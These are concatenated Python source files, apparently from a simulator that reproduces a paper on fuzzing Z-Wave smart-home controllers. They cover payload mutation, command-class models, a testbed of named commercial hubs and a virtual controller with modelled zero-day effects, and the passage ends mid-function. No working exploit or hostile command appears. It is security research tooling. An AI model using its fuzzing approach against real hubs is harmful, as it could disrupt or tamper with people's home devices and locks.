#: frame whose first byte is the NOP pseudo command class.
NOP_CMDCL = 0x00
