"""Application-layer payload model (CMDCL | CMD | PARAM1..PARAMn).

This is the hierarchical tree of Figure 6: the command class sits at
position 0, the command at position 1, and parameters at positions 2..n.
The :class:`ApplicationPayload` value object gives the mutator positional
access, and :func:`validate_payload` classifies a payload against the
specification registry the way a well-implemented receiver would.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import List, Optional, Sequence, Tuple

from ..errors import FrameError
from .cmdclass import Command, CommandClass
from .constants import MAX_APL_PAYLOAD_SIZE
from .registry import SpecRegistry

#: Hierarchy positions (Figure 6).
POSITION_CMDCL = 0
POSITION_CMD = 1
POSITION_FIRST_PARAM = 2


@dataclass(frozen=True)
class ApplicationPayload:
    """An application-layer payload with positional field access."""

    cmdcl: int
    cmd: Optional[int] = None
    params: bytes = b""

    def __post_init__(self) -> None:
        if not 0 <= self.cmdcl <= 0xFF:
            raise FrameError(f"command class {self.cmdcl} out of byte range")
        if self.cmd is not None and not 0 <= self.cmd <= 0xFF:
            raise FrameError(f"command {self.cmd} out of byte range")
        if len(self) > MAX_APL_PAYLOAD_SIZE:
            raise FrameError(
                f"payload of {len(self)} bytes exceeds the {MAX_APL_PAYLOAD_SIZE}-byte APL maximum"
            )

    def __len__(self) -> int:
        return 1 + (1 if self.cmd is not None else 0) + len(self.params)

    def encode(self) -> bytes:
        """Serialise to raw APL bytes (memoised on the immutable instance)."""
        raw = self.__dict__.get("_raw")
        if raw is not None:
            return raw
        out = bytearray([self.cmdcl])
        if self.cmd is not None:
            out.append(self.cmd)
            out += self.params
        raw = bytes(out)
        object.__setattr__(self, "_raw", raw)
        return raw

    @classmethod
    def decode(cls, raw: bytes) -> "ApplicationPayload":
        """Parse raw APL bytes (at least the CMDCL byte must be present)."""
        if not raw:
            raise FrameError("empty application payload")
        cmd = raw[1] if len(raw) >= 2 else None
        return cls(cmdcl=raw[0], cmd=cmd, params=bytes(raw[2:]))

    # -- positional access (Figure 6) ---------------------------------------

    def field_at(self, position: int) -> Optional[int]:
        """Return the byte at hierarchy *position*, or ``None`` if absent."""
        if position == POSITION_CMDCL:
            return self.cmdcl
        if position == POSITION_CMD:
            return self.cmd
        index = position - POSITION_FIRST_PARAM
        if 0 <= index < len(self.params):
            return self.params[index]
        return None

    def _spawn(
        self, cmdcl: int, cmd: Optional[int], params: bytes, raw: bytes
    ) -> "ApplicationPayload":
        """Construct a mutated copy with its wire bytes pre-seeded.

        The mutation operators splice *raw* out of the parent's encoded
        buffer, so the child's first ``encode()`` is a memo hit instead of
        a fresh serialisation — mutation works on buffers, not on
        field-by-field round-trips.  Validation still runs (the normal
        constructor fires ``__post_init__``); only the serialise step is
        skipped, and the splices below are byte-identical to it.
        """
        child = ApplicationPayload(cmdcl, cmd, params)
        object.__setattr__(child, "_raw", raw)
        return child

    def replace_at(self, position: int, value: int) -> "ApplicationPayload":
        """Return a copy with the byte at *position* replaced by *value*."""
        if not 0 <= value <= 0xFF:
            raise FrameError(f"replacement value {value} out of byte range")
        if position == POSITION_CMDCL:
            base = self.encode()
            return self._spawn(value, self.cmd, self.params, bytes([value]) + base[1:])
        if position == POSITION_CMD:
            if self.cmd is None:
                # The command byte is appearing for the first time — there
                # is no parent buffer slot to splice into.
                return ApplicationPayload(self.cmdcl, value, self.params)
            base = self.encode()
            return self._spawn(
                self.cmdcl, value, self.params, base[:1] + bytes([value]) + base[2:]
            )
        index = position - POSITION_FIRST_PARAM
        if not 0 <= index < len(self.params):
            raise FrameError(f"no parameter at position {position}")
        params = bytearray(self.params)
        params[index] = value
        if self.cmd is None:
            # Degenerate shape (params without a command encode to nothing);
            # leave serialisation to the normal path.
            return ApplicationPayload(self.cmdcl, self.cmd, bytes(params))
        buf = bytearray(self.encode())
        buf[POSITION_FIRST_PARAM + index] = value
        return self._spawn(self.cmdcl, self.cmd, bytes(params), bytes(buf))

    def append_param(self, value: int) -> "ApplicationPayload":
        """Return a copy with *value* appended as a trailing parameter."""
        if self.cmd is None:
            raise FrameError("cannot append a parameter to a payload without a command")
        tail = bytes([value & 0xFF])
        return self._spawn(
            self.cmdcl, self.cmd, self.params + tail, self.encode() + tail
        )

    def truncate_params(self, count: int) -> "ApplicationPayload":
        """Return a copy keeping only the first *count* parameters."""
        params = self.params[: max(count, 0)]
        if self.cmd is None:
            return ApplicationPayload(self.cmdcl, self.cmd, params)
        raw = self.encode()[: POSITION_FIRST_PARAM + len(params)]
        return self._spawn(self.cmdcl, self.cmd, params, raw)

    @property
    def positions(self) -> Tuple[int, ...]:
        """All populated hierarchy positions, in order."""
        result: List[int] = [POSITION_CMDCL]
        if self.cmd is not None:
            result.append(POSITION_CMD)
            result.extend(
                POSITION_FIRST_PARAM + i for i in range(len(self.params))
            )
        return tuple(result)


class Validity(Enum):
    """Receiver-side classification of a payload."""

    VALID = "valid"  # known class, known command, legal parameters
    SEMI_VALID = "semi_valid"  # known class, but command/params deviate
    INVALID = "invalid"  # unknown class or structurally broken


@dataclass(frozen=True)
class ValidationResult:
    """Outcome of :func:`validate_payload` with the reasons collected."""

    validity: Validity
    reasons: Tuple[str, ...] = ()
    command_class: Optional[CommandClass] = None
    command: Optional[Command] = None


def validate_payload(
    payload: ApplicationPayload, registry: SpecRegistry
) -> ValidationResult:
    """Classify *payload* against *registry* as valid / semi-valid / invalid.

    Semi-valid payloads are the sweet spot the paper's mutator aims for:
    "payloads must be sophisticated enough to test exception and error
    conditions without being rejected by the controller's basic checks".
    """
    cls = registry.get(payload.cmdcl)
    if cls is None:
        return ValidationResult(Validity.INVALID, (f"unknown command class {payload.cmdcl:#04x}",))
    if payload.cmd is None:
        return ValidationResult(
            Validity.SEMI_VALID, ("payload carries a command class but no command",), cls
        )
    cmd = cls.command(payload.cmd)
    if cmd is None:
        return ValidationResult(
            Validity.SEMI_VALID,
            (f"command {payload.cmd:#04x} not defined for {cls.name}",),
            cls,
        )
    reasons: List[str] = []
    for param in cmd.params:
        if param.position >= len(payload.params):
            reasons.append(f"missing parameter {param.name!r} at index {param.position}")
            continue
        value = payload.params[param.position]
        if not param.is_legal(value):
            reasons.append(
                f"parameter {param.name!r} value {value:#04x} outside its legal domain"
            )
    if len(payload.params) > len(cmd.params):
        reasons.append(
            f"{len(payload.params) - len(cmd.params)} trailing parameter byte(s)"
        )
    if reasons:
        return ValidationResult(Validity.SEMI_VALID, tuple(reasons), cls, cmd)
    return ValidationResult(Validity.VALID, (), cls, cmd)


def build_valid_payload(
    registry: SpecRegistry, cls_id: int, cmd_id: int, param_values: Optional[Sequence[int]] = None
) -> ApplicationPayload:
    """Build a fully valid payload for (*cls_id*, *cmd_id*).

    When *param_values* is omitted, each mandatory parameter takes its first
    legal value — the "semi-valid initial packet" seed of Algorithm 1.
    """
    cmd = registry.command(cls_id, cmd_id)
    if param_values is None:
        param_values = [param.legal_values()[0] for param in cmd.params]
    return ApplicationPayload(cls_id, cmd_id, bytes(v & 0xFF for v in param_values))
