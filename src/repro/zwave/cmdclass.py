"""Data model for Z-Wave application-layer command classes.

The Z-Wave application layer is hierarchical (Figure 6 of the paper): a
command class (CMDCL, position 0) groups commands (CMD, position 1) which
carry parameters (PARAM, positions 2..n).  This module defines the immutable
value objects that the specification registry (:mod:`repro.zwave.spec_data`)
instantiates and that the position-sensitive mutator consumes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Optional, Tuple


class Cluster(Enum):
    """Functional clusters used to decide controller relevance.

    Section III-C1: "A Z-Wave controller is expected to support CMDCLs
    related to application functionality, transport encapsulation,
    management, and networking."  Classes outside those clusters (sensors,
    actuators, AV gear, ...) are slave-side only.
    """

    APPLICATION = "application"
    TRANSPORT_ENCAPSULATION = "transport_encapsulation"
    MANAGEMENT = "management"
    NETWORK = "network"
    SLAVE_ONLY = "slave_only"
    PROPRIETARY = "proprietary"


#: Clusters whose classes a controller is expected to implement.
CONTROLLER_CLUSTERS = frozenset(
    {
        Cluster.APPLICATION,
        Cluster.TRANSPORT_ENCAPSULATION,
        Cluster.MANAGEMENT,
        Cluster.NETWORK,
    }
)


class Direction(Enum):
    """Whether a command is sent by a controller or by a slave.

    The specification marks each command as *controlling* (sent by a
    controller) or *supporting* (sent by a slave in response).
    """

    CONTROLLING = "controlling"
    SUPPORTING = "supporting"
    BOTH = "both"


class CommandKind(Enum):
    """Coarse command categories used by semantic mutation."""

    GET = "get"
    SET = "set"
    REPORT = "report"
    NOTIFICATION = "notification"
    OTHER = "other"


class ParamKind(Enum):
    """Value domains a parameter byte can take."""

    ENUM = "enum"  # one of an explicit set of legal values
    RANGE = "range"  # an inclusive [lo, hi] byte range
    NODE_ID = "node_id"  # a node identifier (1..232 legal)
    BITMASK = "bitmask"  # any bit combination legal
    OPAQUE = "opaque"  # free-form byte


@dataclass(frozen=True)
class Parameter:
    """One application-layer parameter byte at a fixed position.

    ``position`` is the PARAM index (0-based: PARAM1 has position 0) which
    maps to frame position ``2 + position`` in the hierarchy of Figure 6.
    """

    name: str
    position: int
    kind: ParamKind = ParamKind.OPAQUE
    enum_values: Tuple[int, ...] = ()
    low: int = 0x00
    high: int = 0xFF

    def __post_init__(self) -> None:
        if self.position < 0:
            raise ValueError("parameter position must be non-negative")
        if self.kind is ParamKind.ENUM and not self.enum_values:
            raise ValueError(f"enum parameter {self.name!r} needs enum_values")
        if not 0 <= self.low <= self.high <= 0xFF:
            raise ValueError(f"invalid range for parameter {self.name!r}")

    def legal_values(self) -> Tuple[int, ...]:
        """Return the tuple of legal byte values for this parameter.

        Memoised on the (immutable) instance: valid-payload building and
        the controller's GET responder both call this per frame, and the
        NODE_ID/OPAQUE domains are hundreds of values wide.
        """
        values = self.__dict__.get("_legal")
        if values is None:
            if self.kind is ParamKind.ENUM:
                values = self.enum_values
            elif self.kind is ParamKind.NODE_ID:
                values = tuple(range(1, 233))
            elif self.kind is ParamKind.RANGE:
                values = tuple(range(self.low, self.high + 1))
            else:
                values = tuple(range(0x00, 0x100))
            object.__setattr__(self, "_legal", values)
        return values

    def is_legal(self, value: int) -> bool:
        """Return ``True`` when *value* is a legal byte for this parameter."""
        if not 0 <= value <= 0xFF:
            return False
        if self.kind is ParamKind.ENUM:
            return value in self.enum_values
        if self.kind is ParamKind.NODE_ID:
            return 1 <= value <= 232
        if self.kind is ParamKind.RANGE:
            return self.low <= value <= self.high
        return True

    def illegal_values(self) -> Tuple[int, ...]:
        """Return byte values outside the legal domain (may be empty)."""
        legal = set(self.legal_values())
        return tuple(v for v in range(0x100) if v not in legal)


@dataclass(frozen=True)
class Command:
    """One command (position 1 of the hierarchy) within a command class."""

    id: int
    name: str
    direction: Direction = Direction.BOTH
    kind: CommandKind = CommandKind.OTHER
    params: Tuple[Parameter, ...] = ()

    def __post_init__(self) -> None:
        if not 0 <= self.id <= 0xFF:
            raise ValueError(f"command id {self.id:#x} out of byte range")
        positions = [p.position for p in self.params]
        if positions != sorted(positions) or len(set(positions)) != len(positions):
            raise ValueError(
                f"command {self.name!r} parameters must have unique ascending positions"
            )

    @property
    def min_payload_len(self) -> int:
        """Minimum APL payload length: CMDCL + CMD + mandatory params."""
        return 2 + len(self.params)

    def param_at(self, position: int) -> Optional[Parameter]:
        """Return the parameter occupying PARAM index *position*, if any."""
        for param in self.params:
            if param.position == position:
                return param
        return None


@dataclass(frozen=True)
class CommandClass:
    """One command class (position 0 of the hierarchy).

    ``in_public_spec`` is ``False`` for the proprietary classes the paper
    uncovered through validation testing (0x01 and 0x02), which are absent
    from the official Z-Wave Alliance specification.
    """

    id: int
    name: str
    version: int = 1
    cluster: Cluster = Cluster.SLAVE_ONLY
    commands: Tuple[Command, ...] = ()
    in_public_spec: bool = True
    secure_only: bool = False
    _by_id: dict = field(default_factory=dict, repr=False, compare=False)

    def __post_init__(self) -> None:
        if not 0 <= self.id <= 0xFF:
            raise ValueError(f"command class id {self.id:#x} out of byte range")
        ids = [c.id for c in self.commands]
        if len(set(ids)) != len(ids):
            raise ValueError(f"duplicate command ids in class {self.name!r}")
        self._by_id.update({c.id: c for c in self.commands})

    @property
    def command_count(self) -> int:
        """Number of commands this class defines (the Figure 5 metric)."""
        return len(self.commands)

    def command(self, cmd_id: int) -> Optional[Command]:
        """Return the command with identifier *cmd_id*, or ``None``."""
        return self._by_id.get(cmd_id)

    def command_ids(self) -> Tuple[int, ...]:
        """Return all command identifiers in ascending order."""
        return tuple(sorted(self._by_id))

    @property
    def controller_relevant(self) -> bool:
        """Whether a controller is expected to implement this class."""
        return self.cluster in CONTROLLER_CLUSTERS or self.cluster is Cluster.PROPRIETARY


def make_get_set_report(
    *,
    set_id: int = 0x01,
    get_id: int = 0x02,
    report_id: int = 0x03,
    value_param: str = "value",
    value_kind: ParamKind = ParamKind.OPAQUE,
    enum_values: Tuple[int, ...] = (),
    low: int = 0x00,
    high: int = 0xFF,
) -> Tuple[Command, ...]:
    """Build the canonical SET/GET/REPORT command trio most classes use.

    The specification's commonest pattern is ``Set`` (controlling, one value
    parameter), ``Get`` (controlling, no parameters) and ``Report``
    (supporting, one value parameter).
    """
    value = Parameter(
        value_param, 0, kind=value_kind, enum_values=enum_values, low=low, high=high
    )
    return (
        Command(set_id, "SET", Direction.CONTROLLING, CommandKind.SET, (value,)),
        Command(get_id, "GET", Direction.CONTROLLING, CommandKind.GET, ()),
        Command(report_id, "REPORT", Direction.SUPPORTING, CommandKind.REPORT, (value,)),
    )
