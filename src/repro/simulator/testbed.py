"""The Table II testbed: device profiles and SUT construction.

Nine real-world devices make up the paper's system under test: seven
controllers (D1-D7) plus a door lock (D8) and a smart switch (D9) that make
the smart home realistic.  :func:`build_sut` assembles one controller with
its slaves, host program, radio medium and attacker dongle — the unit every
experiment runs against.  Home IDs and listed-class counts reproduce
Table IV exactly.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, Optional, Tuple

from ..errors import SimulatorError
from ..radio.clock import SimClock
from ..radio.medium import RadioMedium
from ..radio.transceiver import Transceiver
from ..zwave.constants import Region
from ..zwave.registry import SpecRegistry, load_full_registry, load_public_registry
from .controller import VirtualController
from .host import HostKind, HostProgram
from .memory import NodeRecord
from .slave import VirtualBinarySwitch, VirtualDoorLock
from .vulnerabilities import DEVICE_MAC_QUIRKS, MAC_QUIRK_CATALOG, ZERO_DAYS

#: The 17-class listing advertised by D1/D2/D4/D6 (Table IV) — note it
#: includes the security classes but NOT the proprietary 0x01/0x02.
LISTED_17: Tuple[int, ...] = (
    0x20, 0x22, 0x25, 0x26, 0x59, 0x5A, 0x5E, 0x6C, 0x70, 0x72, 0x73,
    0x7A, 0x85, 0x86, 0x8E, 0x98, 0x9F,
)

#: The 15-class listing advertised by D3/D5/D7 (Table IV).
LISTED_15: Tuple[int, ...] = tuple(c for c in LISTED_17 if c not in (0x22, 0x8E))

#: Bug #06 and #13 live in the Z-Wave PC Controller program, so only the
#: USB-stick controllers (driven by that program) expose them; the Samsung
#: hubs expose the smartphone-app bug #05 instead (see DESIGN.md — bug #05's
#: "controlling application DoS" also manifests against the PC program, so
#: D1-D5 expose all fifteen, matching Table V).
_ALL_BUGS = tuple(b.bug_id for b in ZERO_DAYS)
_HUB_BUGS = tuple(b for b in _ALL_BUGS if b not in (6, 13))


@dataclass(frozen=True)
class DeviceProfile:
    """Static description of one Table II device."""

    idx: str
    brand: str
    device_type: str
    model: str
    year: int
    encryption: bool
    home_id: int = 0
    listed_cmdcls: Tuple[int, ...] = ()
    host_kind: Optional[HostKind] = None
    zero_day_ids: Tuple[int, ...] = ()
    mac_quirk_ids: Tuple[str, ...] = ()

    @property
    def is_controller(self) -> bool:
        return self.device_type == "Controller"


def _controller(
    idx: str, brand: str, model: str, year: int, home_id: int,
    listed: Tuple[int, ...], host_kind: HostKind, bugs: Tuple[int, ...],
) -> DeviceProfile:
    return DeviceProfile(
        idx=idx, brand=brand, device_type="Controller", model=model, year=year,
        encryption=True, home_id=home_id, listed_cmdcls=listed,
        host_kind=host_kind, zero_day_ids=bugs,
        mac_quirk_ids=DEVICE_MAC_QUIRKS.get(idx, ()),
    )


#: Table II, augmented with the Table IV fingerprints.
PROFILES: Dict[str, DeviceProfile] = {
    "D1": _controller("D1", "ZooZ", "ZST10 (2022)", 2022, 0xE7DE3F3D, LISTED_17, HostKind.PC_CONTROLLER, _ALL_BUGS),
    "D2": _controller("D2", "SiLab", "UZB-7 (2019)", 2019, 0xCD007171, LISTED_17, HostKind.PC_CONTROLLER, _ALL_BUGS),
    "D3": _controller("D3", "Nortek", "HUSBZB-1 (2015)", 2015, 0xCB51722D, LISTED_15, HostKind.PC_CONTROLLER, _ALL_BUGS),
    "D4": _controller("D4", "Aeotec", "ZW090-A (2015)", 2015, 0xC7E9DD54, LISTED_17, HostKind.PC_CONTROLLER, _ALL_BUGS),
    "D5": _controller("D5", "ZWaveMe", "ZMEUUZB1 (2015)", 2015, 0xF4C3754D, LISTED_15, HostKind.PC_CONTROLLER, _ALL_BUGS),
    "D6": _controller("D6", "Samsung", "ET-WV520 (2017)", 2017, 0xCB95A34A, LISTED_17, HostKind.SMARTPHONE_APP, _HUB_BUGS),
    "D7": _controller("D7", "Samsung", "STH-ETH-200 (2015)", 2015, 0xEDC87EE4, LISTED_15, HostKind.SMARTPHONE_APP, _HUB_BUGS),
    "D8": DeviceProfile("D8", "Schlage", "Door Lock", "BE469ZP (2019)", 2019, True),
    "D9": DeviceProfile("D9", "GE Jasco", "Smart Switch", "ZW4201 (2016)", 2016, False),
}

CONTROLLER_IDS: Tuple[str, ...] = ("D1", "D2", "D3", "D4", "D5", "D6", "D7")

#: Node ids in a freshly built network (Table IV: controller is 0x01).
LOCK_NODE_ID = 2
SWITCH_NODE_ID = 3


@dataclass
class SystemUnderTest:
    """Everything one experiment needs, wired together."""

    profile: DeviceProfile
    clock: SimClock
    medium: RadioMedium
    controller: VirtualController
    host: HostProgram
    lock: VirtualDoorLock
    switch: VirtualBinarySwitch
    dongle: Transceiver
    rng: random.Random
    registry: SpecRegistry = field(default_factory=load_public_registry)

    def settle(self, seconds: float = 0.05) -> None:
        """Advance past in-flight frames."""
        self.clock.advance(seconds)

    def golden_snapshot(self):
        """NVM state considered healthy (the memory-oracle baseline)."""
        return self.controller.nvm.snapshot()


def supported_cmdcls() -> Tuple[int, ...]:
    """The 45 classes every testbed controller's firmware implements.

    43 controller-relevant spec classes plus the proprietary 0x01/0x02 —
    the ground truth ZCover's discovery phase recovers (Table IV).
    """
    public = load_public_registry()
    return tuple(sorted(public.controller_relevant_ids() + (0x01, 0x02)))


def build_sut(
    device: str = "D1",
    seed: int = 0,
    attacker_distance_m: float = 30.0,
    with_slaves: bool = True,
    traffic: bool = True,
) -> SystemUnderTest:
    """Assemble one controller SUT with its network and attacker dongle.

    *attacker_distance_m* positions the dongle within the paper's 10-70 m
    envelope.  With *traffic* enabled the controller polls its slaves and
    the slaves report unsolicited status, giving the passive scanner the
    packet exchanges it needs.
    """
    profile = PROFILES.get(device)
    if profile is None or not profile.is_controller:
        raise SimulatorError(f"{device!r} is not a controller in the Table II testbed")
    rng = random.Random(seed)
    clock = SimClock()
    medium = RadioMedium(clock, random.Random(rng.randrange(2**31)))
    network_key = bytes(rng.randrange(256) for _ in range(16))
    host = HostProgram(profile.host_kind or HostKind.PC_CONTROLLER)
    quirks = tuple(MAC_QUIRK_CATALOG[q] for q in profile.mac_quirk_ids)
    controller = VirtualController(
        name=profile.idx,
        home_id=profile.home_id,
        clock=clock,
        medium=medium,
        listed_cmdcls=profile.listed_cmdcls,
        supported_cmdcls=supported_cmdcls(),
        position=(0.0, 0.0),
        zero_day_ids=profile.zero_day_ids,
        mac_quirks=quirks,
        host=host,
        registry=load_full_registry(),
        network_key=network_key,
        rng=random.Random(rng.randrange(2**31)),
    )
    lock = VirtualDoorLock(
        f"{profile.idx}-lock",
        profile.home_id,
        LOCK_NODE_ID,
        clock,
        medium,
        position=(8.0, 3.0),
        network_key=network_key,
        rng=random.Random(rng.randrange(2**31)),
    )
    switch = VirtualBinarySwitch(
        f"{profile.idx}-switch",
        profile.home_id,
        SWITCH_NODE_ID,
        clock,
        medium,
        position=(6.0, -4.0),
        rng=random.Random(rng.randrange(2**31)),
    )
    # Pair the slaves in the controller's NVM — the pristine smart home the
    # memory-tampering attacks will corrupt (Figures 8-11).
    controller.nvm.add(
        NodeRecord(
            node_id=LOCK_NODE_ID,
            basic=0x03,
            generic=0x40,
            specific=0x03,
            secure=True,
            granted_keys=0x87,
            wakeup_interval=3600,
            name="smart door lock",
        )
    )
    controller.nvm.add(
        NodeRecord(
            node_id=SWITCH_NODE_ID,
            basic=0x03,
            generic=0x10,
            specific=0x01,
            name="smart switch",
        )
    )
    if not with_slaves:
        medium.detach(lock.name)
        medium.detach(switch.name)
    elif traffic:
        controller.start_polling([LOCK_NODE_ID, SWITCH_NODE_ID], interval=30.0)
        lock.start_reporting(interval=45.0)
        switch.start_reporting(interval=60.0)
    dongle = Transceiver(
        medium, clock, name=f"{profile.idx}-dongle", position=(attacker_distance_m, 0.0)
    )
    dongle.configure(Region.US, 100.0)
    return SystemUnderTest(
        profile=profile,
        clock=clock,
        medium=medium,
        controller=controller,
        host=host,
        lock=lock,
        switch=switch,
        dongle=dongle,
        rng=rng,
    )
