"""The virtual Z-Wave controller: firmware model of the system under test.

A :class:`VirtualController` behaves like the closed-source hubs of
Table II:

* MAC layer — home-id and destination filtering, checksum verification,
  acknowledgements, plus the device-specific MAC parsing one-days
  (:mod:`repro.simulator.vulnerabilities.MacQuirk`) that fire *before*
  validation, since the flaw lives in the validator;
* application layer — it implements all 45 controller-relevant command
  classes but *advertises only the listed subset* in its NIF (the
  listed/unlisted asymmetry ZCover's discovery phase exploits);
* the fifteen Table III zero-days, applied as effects on the node table,
  the availability state, or the attached host program;
* S0/S2 transports for legitimate slave traffic, with the specification
  flaw reproduced faithfully: protocol-class frames are accepted without
  encapsulation.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from ..errors import FrameError, SimulatorError
from ..obs import metrics as obs
from ..radio.clock import SimClock
from ..radio.medium import RadioMedium, Reception
from ..security.s0 import S0Context
from ..security.s2 import S2Context
from ..zwave import constants as const
from ..zwave.application import ApplicationPayload
from ..zwave.checksum import crc16
from ..zwave.cmdclass import CommandKind
from ..zwave.frame import ZWaveFrame
from ..zwave.nif import (
    BasicDeviceClass,
    GenericDeviceClass,
    NodeInfo,
    encode_nif_report,
    is_nif_request,
)
from ..zwave.registry import SpecRegistry, load_full_registry
from .host import HostProgram
from .memory import NodeRecord, NodeTable
from .transport import S0Messaging, S2Messaging, TRANSPORT_CMDCLS
from .vulnerabilities import (
    EffectType,
    MacQuirk,
    TriggerContext,
    Vulnerability,
    ZERO_DAYS,
)


#: APPLICATION_BUSY (try again later) — the constant answer to supported
#: commands without a GET semantic; shared so its encoding memoises once.
_BUSY_PAYLOAD = ApplicationPayload(0x22, 0x01, bytes([0x00, 0x01]))


@dataclass
class TriggeredEvent:
    """Diagnostic record of one vulnerability firing inside the firmware."""

    timestamp: float
    bug_id: Optional[int]
    quirk_id: Optional[str]
    effect: str
    payload: bytes


@dataclass
class ControllerStats:
    """Frame-level accounting for the efficiency analyses."""

    received: int = 0
    rejected_checksum: int = 0
    rejected_home_id: int = 0
    rejected_dst: int = 0
    dropped_while_hung: int = 0
    acked: int = 0
    apl_processed: int = 0
    apl_ignored_unsupported: int = 0
    responses_sent: int = 0


class VirtualController:
    """One simulated Z-Wave hub attached to the radio medium."""

    def __init__(
        self,
        name: str,
        home_id: int,
        clock: SimClock,
        medium: RadioMedium,
        listed_cmdcls: Tuple[int, ...],
        supported_cmdcls: Tuple[int, ...],
        position: Tuple[float, float] = (0.0, 0.0),
        node_id: int = const.CONTROLLER_NODE_ID,
        zero_day_ids: Tuple[int, ...] = tuple(b.bug_id for b in ZERO_DAYS),
        mac_quirks: Tuple[MacQuirk, ...] = (),
        host: Optional[HostProgram] = None,
        registry: Optional[SpecRegistry] = None,
        network_key: bytes = b"\x00" * 16,
        rng: Optional[random.Random] = None,
    ):
        self.name = name
        self.home_id = home_id
        self.node_id = node_id
        self._clock = clock
        self._medium = medium
        self._registry = registry or load_full_registry()
        self._listed = tuple(sorted(listed_cmdcls))
        self._supported = tuple(sorted(supported_cmdcls))
        self._supported_set = frozenset(self._supported)
        self._zero_days = tuple(
            bug for bug in ZERO_DAYS if bug.bug_id in set(zero_day_ids)
        )
        # Dispatch index: ``triggered_by`` rejects on cmdcl first, so only
        # the bugs planted in the payload's class can ever fire.  Bucket
        # order preserves the tuple order, keeping first-match semantics.
        self._zero_days_by_cmdcl: Dict[int, Tuple[Vulnerability, ...]] = {}
        for bug in self._zero_days:
            bucket = self._zero_days_by_cmdcl.setdefault(bug.cmdcl, ())
            self._zero_days_by_cmdcl[bug.cmdcl] = bucket + (bug,)
        #: MAC acks keyed by (requester, sequence); an ack's bytes are a
        #: pure function of those two fields for a fixed controller.
        self._ack_cache: Dict[Tuple[int, int], bytes] = {}
        #: Per-class canonical GET response payload (``None`` when the
        #: class defines no REPORT); the payload instance is shared so its
        #: memoised encoding is built once per class.
        self._report_cache: Dict[int, Optional[ApplicationPayload]] = {}
        #: Outbound frame bytes keyed by (dst, payload, sequence, ack bit);
        #: the wire form is a pure function of those for a fixed controller,
        #: and the 16-value sequence cycle makes responses repeat quickly.
        self._tx_cache: Dict[Tuple[int, bytes, int, bool], bytes] = {}
        self._mac_quirks = tuple(mac_quirks)
        self.host = host
        self.nvm = NodeTable(own_node_id=node_id)
        self.stats = ControllerStats()
        self._rng = rng or random.Random(0)
        self._hang_until = 0.0
        self._powered = True
        self._sequence = 0
        self._events: List[TriggeredEvent] = []
        self._network_key = network_key
        self._s0 = S0Context(network_key, self._rng)
        self._s2 = S2Context(network_key, node_id, self._rng)
        self._s2m = S2Messaging(
            self._s2, home_id, node_id, self._send, self._deliver_secure_inner
        )
        self._s0m = S0Messaging(
            self._s0, node_id, self._send, self._deliver_secure_inner
        )
        self._poll_targets: List[int] = []
        self._poll_interval: Optional[float] = None
        #: Lifeline-style association groups (group id -> member node ids).
        self.associations: Dict[int, List[int]] = {1: []}
        #: Configuration parameter store (parameter number -> value).
        self.config_params: Dict[int, int] = {}
        #: Callbacks invoked with (src, payload) for every consumed device
        #: report — the hook the Serial API adapter uses to surface
        #: APPLICATION_COMMAND_HANDLER events to the host program.
        self.apl_listeners: List = []
        #: Optional fault-injection hook (repro.faults.ControllerFaultInjector);
        #: consulted for an ACK delay when set.
        self.fault_injector = None
        medium.attach(name, position, region=_default_region(), callback=self._on_receive)

    # -- introspection the harness uses ------------------------------------------

    @property
    def clock(self) -> SimClock:
        return self._clock

    @property
    def listed_cmdcls(self) -> Tuple[int, ...]:
        """What the NIF advertises — the *known* properties of Section III-B."""
        return self._listed

    @property
    def supported_cmdcls(self) -> Tuple[int, ...]:
        """What the firmware actually implements (ground truth)."""
        return self._supported

    @property
    def s0(self) -> S0Context:
        return self._s0

    @property
    def s2(self) -> S2Context:
        return self._s2

    @property
    def s2_messaging(self) -> S2Messaging:
        return self._s2m

    @property
    def s0_messaging(self) -> S0Messaging:
        return self._s0m

    def send_command(
        self, dst: int, payload: ApplicationPayload, secure: bool = False
    ) -> None:
        """Host-initiated command toward a paired device (app/API path)."""
        if secure:
            self._s2m.send_secure(dst, payload)
        else:
            self._send(dst, payload)

    @property
    def hung(self) -> bool:
        return self._clock.now < self._hang_until

    @property
    def hang_remaining(self) -> float:
        return max(0.0, self._hang_until - self._clock.now)

    @property
    def powered(self) -> bool:
        return self._powered

    def events(self) -> List[TriggeredEvent]:
        return list(self._events)

    def node_info(self) -> NodeInfo:
        """The self-description sent in response to a NIF request."""
        return NodeInfo(
            basic=BasicDeviceClass.STATIC_CONTROLLER,
            generic=GenericDeviceClass.STATIC_CONTROLLER,
            specific=0x01,
            security=True,
            listed_cmdcls=self._listed,
        )

    # -- operator-style controls -----------------------------------------------------

    def power_cycle(self) -> None:
        """Reboot the hub: clears hangs and volatile state, keeps NVM."""
        self._hang_until = 0.0
        self._sequence = 0
        self._s2.reset_spans()

    def set_power(self, powered: bool) -> None:
        self._powered = powered
        self._medium.set_enabled(self.name, powered)

    # -- fault-injection entry points --------------------------------------------

    def inject_hang(self, duration_s: float) -> None:
        """A planned firmware hang (repro.faults controller 'hang' kind)."""
        self._hang(duration_s)

    def spurious_reset(self) -> None:
        """A planned spontaneous reboot (controller 'spurious-reset' kind)."""
        self.power_cycle()

    def start_polling(self, targets: List[int], interval: float) -> None:
        """Periodically poll slave devices (generates sniffable traffic)."""
        self._poll_targets = list(targets)
        self._poll_interval = interval
        self._schedule_poll()

    def _schedule_poll(self) -> None:
        if self._poll_interval is None:
            return
        self._clock.schedule(self._poll_interval, self._do_poll)

    def _do_poll(self) -> None:
        if self._powered and not self.hung:
            for target in self._poll_targets:
                record = self.nvm.get(target)
                if record is None:
                    continue  # The memory-tamper attacks make polls stop.
                if record.secure:
                    # S2-paired devices are driven through the encrypted
                    # transport (DOOR_LOCK_OPERATION_GET).
                    self._s2m.send_secure(target, ApplicationPayload(0x62, 0x02, b""))
                else:
                    self._send(target, ApplicationPayload(0x20, 0x02, b""))
        self._schedule_poll()

    # -- transmit helpers ----------------------------------------------------------------

    def _next_seq(self) -> int:
        self._sequence = (self._sequence + 1) % 16
        return self._sequence

    def _send(self, dst: int, payload: ApplicationPayload, ack_request: bool = True) -> None:
        apl = payload.encode()
        key = (dst, apl, self._next_seq(), ack_request)
        raw = self._tx_cache.get(key)
        if raw is None:
            frame = ZWaveFrame(
                home_id=self.home_id,
                src=self.node_id,
                dst=dst,
                payload=apl,
                sequence=key[2],
